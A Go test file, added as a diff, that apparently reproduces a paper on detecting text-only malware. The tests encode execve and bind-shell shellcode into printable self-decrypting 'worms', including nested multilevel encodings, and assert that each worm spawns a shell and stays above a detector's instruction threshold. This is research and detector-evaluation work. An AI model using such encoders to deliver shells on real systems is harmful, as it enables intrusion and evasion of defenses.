@@ -1,0 +1,122 @@
+package encoder
+
+import (
+	"testing"
+
+	"repro/internal/shellcode"
+	"repro/internal/textins"
+)
+
+func TestSubWriteStyleSpawnsShell(t *testing.T) {
+	for seed := uint64(0); seed < 25; seed++ {
+		w, err := Encode(shellcode.Execve().Code, Options{
+			Seed:  seed,
+			Style: StyleSubWrite,
+		})
+		if err != nil {
+			t.Fatalf("seed %d: %v", seed, err)
+		}
+		if !textins.IsTextStream(w.Bytes) {
+			t.Fatalf("seed %d: worm not pure text", seed)
+		}
+		out := runWorm(t, w)
+		if !out.ShellSpawned() {
+			t.Fatalf("seed %d: stop=%v fault=%+v", seed, out.Kind, out.Fault)
+		}
+	}
+}
+
+func TestSubWriteIsSmallerThanXORWrite(t *testing.T) {
+	payload := shellcode.Execve().Code
+	xor, err := Encode(payload, Options{Seed: 1, Style: StyleXORWrite})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sub, err := Encode(payload, Options{Seed: 1, Style: StyleSubWrite})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if sub.DecrypterLen >= xor.DecrypterLen {
+		t.Errorf("sub-write decrypter %dB should be smaller than xor-write %dB",
+			sub.DecrypterLen, xor.DecrypterLen)
+	}
+	if sub.Instructions >= xor.Instructions {
+		t.Errorf("sub-write path %d should be shorter than xor-write %d",
+			sub.Instructions, xor.Instructions)
+	}
+	// The ablation's point: even the leaner attacker stays far above the
+	// detector's operating threshold (~40-45).
+	if sub.Instructions < 90 {
+		t.Errorf("sub-write worm path only %d instructions", sub.Instructions)
+	}
+}
+
+func TestSubWriteMultiWindow(t *testing.T) {
+	long := append([]byte{}, shellcode.BindShell().Code...)
+	for len(long) < 200 {
+		long = append([]byte{0x90}, long...)
+	}
+	w, err := Encode(long, Options{Seed: 9, Style: StyleSubWrite})
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := runWorm(t, w)
+	if !out.ShellSpawned() {
+		t.Fatalf("multi-window sub-write worm: stop=%v fault=%+v", out.Kind, out.Fault)
+	}
+}
+
+// TestMultilevelEncoding exercises the Section 7 "Russian doll"
+// discussion: encode a text worm *as the payload of another text worm*.
+// The outer decrypter reconstructs the inner (pure-text) worm in place;
+// falling through executes it; the inner decrypter reconstructs the
+// binary shellcode; the shell spawns. The paper's prediction — that
+// multilevel encryption makes the malware larger and its MEL higher, not
+// lower — is asserted directly.
+func TestMultilevelEncoding(t *testing.T) {
+	inner, err := Encode(shellcode.Execve().Code, Options{Seed: 3, SledLen: 8})
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The inner worm executes with ESP = its own start; when it runs as
+	// the decoded region of the outer worm, ESP still points at the
+	// *outer* worm start. Its decrypter computes addresses relative to
+	// ESP, so the inner ESPDelta must be the inner worm's offset within
+	// the outer worm: sled + outer decrypter length = region start. That
+	// offset depends on the outer encoding, so fix the outer sled and
+	// compute the region start analytically from a first encoding pass.
+	probe, err := Encode(inner.Bytes, Options{Seed: 4, SledLen: 16})
+	if err != nil {
+		t.Fatal(err)
+	}
+	innerOffset := probe.SledLen + probe.DecrypterLen
+	inner2, err := Encode(shellcode.Execve().Code, Options{
+		Seed:     3,
+		SledLen:  8,
+		ESPDelta: int32(innerOffset),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	outer, err := Encode(inner2.Bytes, Options{Seed: 4, SledLen: 16})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if outer.SledLen+outer.DecrypterLen != innerOffset {
+		t.Fatalf("offset drift: %d != %d", outer.SledLen+outer.DecrypterLen, innerOffset)
+	}
+	if !textins.IsTextStream(outer.Bytes) {
+		t.Fatal("outer worm not pure text")
+	}
+	out := runWorm(t, outer)
+	if !out.ShellSpawned() {
+		t.Fatalf("multilevel worm failed: stop=%v fault=%+v", out.Kind, out.Fault)
+	}
+	// Section 7's conclusion: the doll gets bigger, not smaller.
+	if len(outer.Bytes) <= len(inner.Bytes) {
+		t.Errorf("outer %dB should exceed inner %dB", len(outer.Bytes), len(inner.Bytes))
+	}
+	if outer.Instructions <= inner.Instructions {
+		t.Errorf("outer path %d should exceed inner %d", outer.Instructions, inner.Instructions)
+	}
+}
